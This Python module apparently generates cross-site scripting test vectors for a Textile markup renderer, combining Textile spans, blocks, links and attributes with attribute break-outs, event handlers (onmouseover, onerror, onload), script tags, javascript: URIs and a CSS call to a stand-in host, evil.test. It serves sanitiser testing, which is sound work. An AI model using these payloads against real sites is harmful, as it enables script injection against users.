"""Textile's own ways to make attributes, links, images and blocks, with quotes and tags where none belong."""

from collections.abc import Iterator
from itertools import combinations, product

SPANS = ("*", "_", "**", "__", "+", "-", "^", "~", "%", "??", "@")

BROKEN_OUT = (
    'x" onmouseover="hit(§)',
    "x' onmouseover='hit(§)",
    'x"onfocus="hit(§)"tabindex="0"autofocus="',
    'x"oncontentvisibilityautostatechange="hit(§)"style="content-visibility:auto',
    'x"><img src=x: onerror=hit(§)><i title="',
    "x><script>hit(§)</script>",
    "x&quot;onclick=&quot;hit(§)",
    'x"style="background:url(//evil.test/§)',
    'x"id="login"name="login"class="reaction',
    "x`onmouseover=`hit(§)",
)

ATTRIBUTES = ("[{}]", "{{}}", "({})", "(#{})", "(a#{})[{}]", "({})[nl]{{}}")
"""Language, style, class, id, and some at once. The outer braces are Textile's."""

BLOCKS = ("p", "bq", "bc", "pre", "h1", "h3", "h6", "fn1", "notextile", "div", "###", "table", "p(", "bq..")

SPANNED = ("{s}{a}x{s}", "{s}{a}x y{s} z", "{s}{a}{s}", "a {s}{a}x{s}b")

LINKS = (
    '"x":{}',
    '"{}":https://a.nl/',
    '"x({})":https://a.nl/',
    '"({})x":https://a.nl/',
    '"[{}]x":https://a.nl/',
    '"x":https://a.nl/{}',
    '"x":https://a.nl/?{}',
    '"x":https://a.nl/#{}',
    '"x":https://{}@a.nl/',
    '"x":https://a.nl:{}/',
    '[x]https://a.nl/{}\n\n"y":x',
    '[{}]https://a.nl/\n\n"y":{}',
    "!https://a.nl/{}!",
    "!https://a.nl/a.png({})!",
    "!https://a.nl/a.png!:{}",
    "!({})https://a.nl/a.png!",
    "bq.:https://a.nl/{} x",
    "bq({}):https://a.nl/ x",
    "*:{} x*",
    "ABC({})",
    "ABC({})(x)",
    "x[{}]",
    "x[1]\n\nfn1({}). y",
    "x[#{}]\n\nnote#{}. y\n\nnotelist.",
    "note#a({}). y\n\nx[#a]\n\nnotelist(b)^+!.",
    "=={}==",
    "<notextile>{}</notextile>",
    "@{}@",
    "bc({}). x",
    "bc[{}]. x\ny",
    "pre. {}",
    "pre..\n{}\n\np. x",
    "|{}|x|",
    "|({}). x|",
    "|\\2{}. x|",
    "|/3[{}]. x|",
    "|_<>{{}}. x|",
    "table({}). \n|x|",
    "|~.\n|{}|",
    "|:\\5[{}]. |\n|x|",
    "({}). |x|y|",
    "* ({}) x",
    "# [{}] x",
    "#5({}) x\n#_ y",
    "- {} := x",
    "- x := {} =:",
    "; {}\n: y",
    "# x\n## {}\n#* y",
    "h2. {}",
    "*{}",
    "{}*",
    "_*{}_*",
    "*_+-^~%??@{}@??%~^-+_*",
    "%{color:red}{}%",
    "--{}--",
    "{}(TM) {}(c)",
    "1{}2",
    "<{}>",
    "\"{}'",
    "###. {}",
    "clear. {}",
    "dl. {}",
    '"$":https://a.nl/{}',
    '"$":{}',
    "> {}\n> x",
    ">> {}\n> > x",
    "* a\n** {}\n# b",
    "- a\n- {}\n  x",
    "H[~{}~]O",
    "bq..:https://a.nl/{} x\n\ny\n\np. z",
    "bc.. {}\n\nx\n\nbq. {}",
    "|_\\2/3. {}|x|\n|y|",
    "&#60;{}&#62;",
    "@{}@*{}*",
)

INSERTED = (
    'x"onmouseover="hit(§)',
    "x'onmouseover='hit(§)",
    '"><svg onload=hit(§)>',
    "<img src=x: onerror=hit(§)>",
    "javascript:hit(§)",
)

KEYWORDS = ("p.", "p(", "p{", "p[", "bq.:", "notextile.", "==", "@", "|", "[", "](", '":', "!", "*", "_", "<", ">", "&")


def vectors() -> Iterator[str]:
    for number, (span, attribute) in enumerate(product(SPANS, ATTRIBUTES)):
        for step, quote in enumerate(BROKEN_OUT[number % 2 :: 2]):
            frame = SPANNED[(number + step) % len(SPANNED)]
            yield frame.replace("{s}", span).replace("{a}", attribute.replace("{}", quote))
    for number, (block, attribute) in enumerate(product(BLOCKS, ATTRIBUTES)):
        for quote in BROKEN_OUT[number % 4 :: 4]:
            yield f"{block}{attribute.replace('{}', quote)}. x"
    for link, inserted in product(LINKS, INSERTED):
        yield link.replace("{}", inserted)
    for first, second in combinations(KEYWORDS, 2):
        yield f'{first}x{second}<img src=x: onerror=hit(§)>"onclick="hit(§)'
